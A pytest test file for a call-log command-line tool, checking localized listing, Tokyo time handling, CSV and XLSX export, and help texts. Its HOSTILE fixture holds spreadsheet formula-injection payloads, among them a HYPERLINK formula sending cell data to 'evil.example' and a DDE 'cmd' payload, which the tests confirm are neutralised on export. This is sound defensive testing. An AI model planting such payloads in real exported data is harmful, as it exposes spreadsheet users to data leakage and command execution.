"""`caseline calls list | export`, `--version` and the help texts, on a real SQLite store.

Times are checked in Asia/Tokyo (UTC+9, no DST), set for the process with TZ: Python and Qt
both read it, as they read the agent's zone in the window.
"""

from __future__ import annotations

import argparse
import csv
import io
import time
import tomllib
from datetime import UTC, datetime, timedelta
from importlib import metadata
from pathlib import Path
from typing import TYPE_CHECKING

import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from PySide6.QtCore import QLocale

from app.cases.models import Agent, CallLog, Case, Contact, Customer, Direction, Outcome, new_id
from app.cases.numbers import normalize
from app.cases.store import open_sqlite
from app.cli import calls as cli_calls
from app.cli import main as cli
from app.cli.main import main
from app.i18n.build import release
from app.ui import labels

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sqlalchemy.orm import Session

ROOT = Path(__file__).resolve().parents[3]
STARTED = datetime(2026, 11, 3, 5, 5, 9, tzinfo=UTC)  # 14:05:09 in Tokyo
EARLY = datetime(2026, 11, 2, 20, 0, tzinfo=UTC)  # 2026-11-03 05:00 in Tokyo, 11-02 in UTC
HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "＝１＋１")


@pytest.fixture(scope="module", autouse=True)
def _built_translations() -> None:
    release()  # .ts -> .qm, as ./scripts/test does first


@pytest.fixture
def tokyo(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, config_file: Path,
       tokyo: None) -> Path:
    """A store with three calls: an answered one on an SR, taken by a Japanese-named agent;
    an earlier missed one; one per hostile caller ID name."""
    path = tmp_path / "data" / "cases.db"
    monkeypatch.setenv("CASELINE_DB", str(path))
    monkeypatch.setattr(cli._Language, "translator", None)  # each test's own language
    store = open_sqlite(path)
    try:
        with store.session() as session:
            agent = Agent(id=new_id(), name="佐藤 健一", sip_identity="sato@example.jp")
            customer = Customer(id=new_id(), code="C-1", company="株式会社やまと建設")
            contact = Contact(id=new_id(), customer_id=customer.id, name="松本 恵")
            case = Case(id=new_id(), number="SR-2026-000123",
                        title="プリンタが印刷しない（紙詰まり）", customer_id=customer.id)
            session.add_all([agent, customer, contact, case])
            session.flush()
            _call(session, STARTED, display_name="マツモト", agent=agent, case=case,
                  contact=contact, outcome=Outcome.ANSWERED, disposition="info-provided")
            _call(session, EARLY, display_name="", outcome=Outcome.MISSED, number="")
            for minute, name in enumerate(HOSTILE, 1):
                _call(session, datetime(2026, 10, 1, 1, minute, tzinfo=UTC), display_name=name,
                      outcome=Outcome.ANSWERED)
    finally:
        store.close()
    return path


def _call(session: Session, started: datetime, *, display_name: str, outcome: Outcome,
          agent: Agent | None = None, case: Case | None = None, contact: Contact | None = None,
          disposition: str | None = None, number: str = "03-1234-5678") -> None:
    parsed = normalize(number)
    row = CallLog(
        id=new_id(), direction=Direction.INBOUND, engine_call_id="t", started_at=started,
        ended_at=started + timedelta(minutes=5) if outcome is Outcome.ANSWERED else None,
        number_raw=parsed.raw, number_e164=parsed.e164, number_key=parsed.match_key,
        display_name=display_name, outcome=outcome, disposition_code=disposition,
        agent_id=agent.id if agent else None, case_id=case.id if case else None,
        contact_id=contact.id if contact else None,
        customer_id=contact.customer_id if contact else None,
        talk_seconds=125.5 if outcome is Outcome.ANSWERED else 0.0, ring_seconds=7.0,
    )
    session.add(row)


def _language(config_file: Path, language: str) -> None:
    config_file.write_text(f'[ui]\nlanguage = "{language}"\n', encoding="utf-8")


def _window_time(when: datetime, language: str) -> str:
    """What the history window shows for ``when`` in ``language`` (app.ui.labels)."""
    previous = QLocale()
    QLocale.setDefault(QLocale(language))
    try:
        return labels.local_datetime(when)
    finally:
        QLocale.setDefault(previous)


# -- calls list ---------------------------------------------------------------------------------


def test_list_in_japanese_has_a_header_and_the_window_s_local_time(
        db: Path, config_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _language(config_file, "ja")
    assert main(["calls", "list"]) == 0
    header, newest, *_ = capsys.readouterr().out.splitlines()
    assert header.split() == ["日時", "発着信", "通話相手", "SR", "結果", "対応区分", "通話時間",
                              "オペレーター"]
    assert newest.startswith("2026/11/03 14:05  ")
    assert newest.startswith(_window_time(STARTED, "ja"))
    # the caller's names are cut to fit, never the number
    for text in ("着信", "松本 恵 / 株式会社", "… / 03-1234-5678", "SR-2026-000123",
                 "応答済み", "情報提供", "2:05", "佐藤 健一"):
        assert text in newest


def test_list_in_english_and_in_utc(db: Path, config_file: Path,
                                    capsys: pytest.CaptureFixture[str]) -> None:
    _language(config_file, "en")
    assert main(["calls", "list", "--limit", "2"]) == 0
    header, newest, missed = capsys.readouterr().out.splitlines()
    assert header.split()[:3] == ["Time", "Direction", "Caller"]
    assert newest.startswith(_window_time(STARTED, "en"))
    assert "11/3/26 2:05" in newest and "Answered" in newest
    assert "Withheld number" in missed and "Missed" in missed and "rang 0:07" in missed

    assert main(["calls", "list", "--limit", "2", "--utc"]) == 0
    header, newest, missed = capsys.readouterr().out.splitlines()
    assert header.startswith("Time (UTC)")
    assert newest.startswith("2026-11-03T05:05:09Z  ")
    assert missed.startswith("2026-11-02T20:00:00Z  ")


def test_list_columns_line_up_with_full_width_text(db: Path, config_file: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """Each column starts at the same terminal cell on every line, Japanese or not."""
    _language(config_file, "ja")
    assert main(["calls", "list"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 1 + 2 + len(HOSTILE)
    outcome_at = {cli_calls.text_width(line[:line.index(word)])
                  for line in lines for word in ("結果", "応答済み", "不在着信") if word in line}
    assert len(outcome_at) == 1


def test_since_is_a_local_day_unless_utc(db: Path, config_file: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    _language(config_file, "en")
    assert main(["calls", "list", "--json", "--since", "2026-11-03"]) == 0
    local = capsys.readouterr().out.splitlines()
    assert main(["calls", "list", "--json", "--since", "2026-11-03", "--utc"]) == 0
    utc = capsys.readouterr().out.splitlines()
    assert len(local) == 2 and len(utc) == 1  # the early call is on the 3rd only in Tokyo


def test_json_keeps_codes_and_utc_and_names_the_agent_and_sr(
        db: Path, config_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import json  # noqa: PLC0415

    _language(config_file, "ja")
    assert main(["calls", "list", "--json", "--limit", "1"]) == 0
    row = json.loads(capsys.readouterr().out)
    assert row["started_at"] == "2026-11-03T05:05:09+00:00"
    assert (row["outcome"], row["direction"]) == ("answered", "inbound")
    assert (row["agent"], row["case_number"], row["case_title"]) == (
        "佐藤 健一", "SR-2026-000123", "プリンタが印刷しない（紙詰まり）")


# -- calls export -------------------------------------------------------------------------------


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_has_a_bom_and_round_trips_in_japanese(db: Path, config_file: Path,
                                                   tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    _language(config_file, "ja")
    out = tmp_path / "calls.csv"
    assert main(["calls", "export", "-o", str(out)]) == 0
    assert str(out) in capsys.readouterr().out
    assert out.read_bytes().startswith(b"\xef\xbb\xbf\xe9\x96\x8b")  # BOM, then "開始日時"
    rows = _csv_rows(out)
    assert len(rows) == 2 + len(HOSTILE)
    assert [r["開始日時"] for r in rows] == sorted(r["開始日時"] for r in rows)  # oldest first
    answered = rows[-1]
    assert answered["開始日時"] == "2026-11-03 14:05:09"
    assert answered["UTCとの時差"] == "UTC+09:00"
    assert answered["終了日時"] == "2026-11-03 14:10:09"
    started = datetime.fromisoformat(answered["開始日時"] + answered["UTCとの時差"][3:])
    assert started == STARTED
    assert answered["オペレーター"] == "佐藤 健一"
    assert (answered["SR"], answered["SRのタイトル"]) == ("SR-2026-000123",
                                                        "プリンタが印刷しない（紙詰まり）")
    assert (answered["対応区分"], answered["対応区分コード"]) == ("情報提供", "info-provided")
    assert (answered["発着信"], answered["結果"]) == ("着信", "応答済み")
    assert float(answered["通話時間 (秒)"]) == 125.5

    assert main(["calls", "export", "-o", str(out), "--utc"]) == 0
    answered = _csv_rows(out)[-1]
    assert (answered["開始日時"], answered["UTCとの時差"]) == ("2026-11-03 05:05:09",
                                                               "UTC+00:00")


def test_csv_to_stdout_also_starts_with_the_bom(db: Path, config_file: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    _language(config_file, "en")
    assert main(["calls", "export", "--since", "2026-11-03"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("\ufeffStarted,UTC offset,")
    rows = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"))))
    assert [r["Outcome"] for r in rows] == ["Missed", "Answered"]  # --since still filters
    assert rows[0]["Number"] == "" and rows[1]["Agent"] == "佐藤 健一"


def test_xlsx_holds_datetimes_numbers_and_japanese_text(db: Path, config_file: Path,
                                                        tmp_path: Path) -> None:
    _language(config_file, "ja")
    out = tmp_path / "calls.xlsx"
    assert main(["calls", "export", "--output", str(out)]) == 0  # xlsx from the file's name
    book = openpyxl.load_workbook(out)
    sheet = book.active
    assert sheet is not None and sheet.title == "通話履歴"
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["開始日時", "UTCとの時差", "終了日時"]
    assert all(c.font.b for c in sheet[1])
    answered = {name: cell for name, cell in zip(header, sheet[sheet.max_row], strict=True)}
    started = answered["開始日時"]
    assert started.value == datetime(2026, 11, 3, 14, 5, 9)  # naive: Excel has no zones
    assert started.is_date and "yyyy" in started.number_format
    assert answered["通話時間 (秒)"].value == 125.5
    assert answered["通話時間 (秒)"].data_type == "n"
    assert answered["オペレーター"].value == "佐藤 健一"
    assert answered["SRのタイトル"].value == "プリンタが印刷しない（紙詰まり）"
    assert answered["対応区分"].value == "情報提供"
    # Fitted: the SR title's column is wider than the narrow direction column, and fits it.
    widths = {name: sheet.column_dimensions[get_column_letter(n)].width
              for n, name in enumerate(header, 1)}
    assert widths["SRのタイトル"] >= cli_calls.text_width("プリンタが印刷しない（紙詰まり）")
    assert widths["SRのタイトル"] > widths["発着信"]
    assert sheet.auto_filter.ref == f"A1:W{sheet.max_row}"


def test_a_display_name_never_becomes_a_formula(db: Path, config_file: Path,
                                                tmp_path: Path) -> None:
    _language(config_file, "en")
    assert main(["calls", "export", "-o", str(tmp_path / "calls.csv")]) == 0
    assert main(["calls", "export", "-o", str(tmp_path / "calls.xlsx")]) == 0

    names = [r["Caller ID name"] for r in _csv_rows(tmp_path / "calls.csv")]
    assert names[:len(HOSTILE)] == ["'" + name for name in HOSTILE]
    assert all(r["Number (E.164)"] == "+81312345678"  # a number stays a number
               for r in _csv_rows(tmp_path / "calls.csv") if r["Number"])

    sheet = openpyxl.load_workbook(tmp_path / "calls.xlsx").active
    assert sheet is not None
    column = [c.value for c in sheet[1]].index("Caller ID name") + 1
    cells = [sheet.cell(row=n, column=column) for n in range(2, 2 + len(HOSTILE))]
    assert [c.value for c in cells] == list(HOSTILE)  # the text itself, unchanged
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, marked as such


def test_formula_safe_keeps_numbers_and_flags_the_rest() -> None:
    for text in ("+81 3-1234-5678", "+81312345678", "-5", "(03) 1234-5678", "Sato"):
        assert cli_calls.formula_safe(text), text
    for text in (*HOSTILE, "=1", "+", "-", "@", "\t=1", "-1 or calc"):
        assert not cli_calls.formula_safe(text), text


def test_a_failed_export_leaves_no_file(db: Path, config_file: Path, tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    _language(config_file, "en")
    target = tmp_path / "missing" / "calls.xlsx"
    assert main(["calls", "export", "-o", str(target)]) == 2
    assert "Could not write" in capsys.readouterr().err
    assert not target.parent.exists()


def test_an_xlsx_export_failing_midway_raises_cleanly() -> None:
    """A store error after some rows: the error reaches the caller, and the sheet's writer is
    closed then, not later by the garbage collector (pytest makes that an error)."""
    def rows() -> Iterator[list[object]]:
        yield ["x"] * len(cli_calls.EXPORT_COLUMNS)
        raise RuntimeError("the store went away")

    with pytest.raises(RuntimeError, match="went away"):
        cli_calls.write_xlsx(io.BytesIO(), ["h"] * len(cli_calls.EXPORT_COLUMNS), rows(), "Calls")


def test_format_follows_the_flag_then_the_file_name() -> None:
    assert cli_calls.export_format(None, "x.XLSX") == "xlsx"
    assert cli_calls.export_format(None, "x.csv") == "csv"
    assert cli_calls.export_format(None, None) == "csv"
    assert cli_calls.export_format("csv", "x.xlsx") == "csv"


def test_clip_counts_terminal_cells() -> None:
    assert cli_calls.text_width("東京abc") == 7
    assert cli_calls.clip("東京都千代田区", 7) == "東京都…"
    assert cli_calls.text_width(cli_calls.clip("東京都千代田区", 7)) <= 7
    assert cli_calls.clip("Tokyo", 5) == "Tokyo"


# -- --version and help -------------------------------------------------------------------------


def test_version_is_the_package_s(capsys: pytest.CaptureFixture[str]) -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    for flag in ("--version", "-V"):
        with pytest.raises(SystemExit) as done:
            main([flag])
        assert done.value.code == 0
        assert capsys.readouterr().out == f"caseline {project['version']}\n"
    assert cli.version() == metadata.version("caseline")


def test_version_from_a_source_tree_without_metadata(monkeypatch: pytest.MonkeyPatch) -> None:
    def not_installed(name: str) -> str:
        raise metadata.PackageNotFoundError(name)

    monkeypatch.setattr(metadata, "version", not_installed)
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    assert cli.version() == project["version"]


def _walk(parser: argparse.ArgumentParser, path: str) -> Iterator[tuple[str, str | None]]:
    for action in parser._actions:
        name = "/".join(action.option_strings) or action.dest
        yield f"{path} {name}", action.help
        if isinstance(action, argparse._SubParsersAction):
            helps = {choice.dest: choice.help for choice in action._choices_actions}
            for command, sub in action.choices.items():
                yield f"{path} {command}", helps.get(command)
                yield from _walk(sub, f"{path} {command}")


def test_every_command_and_option_has_help() -> None:
    found = dict(_walk(cli._parser(), "caseline"))
    assert "caseline calls export --format" in {k.split("/")[0] for k in found}  # it walks deep
    assert len(found) > 60
    missing = sorted(name for name, text in found.items()
                     if not text or text == argparse.SUPPRESS)
    assert missing == []
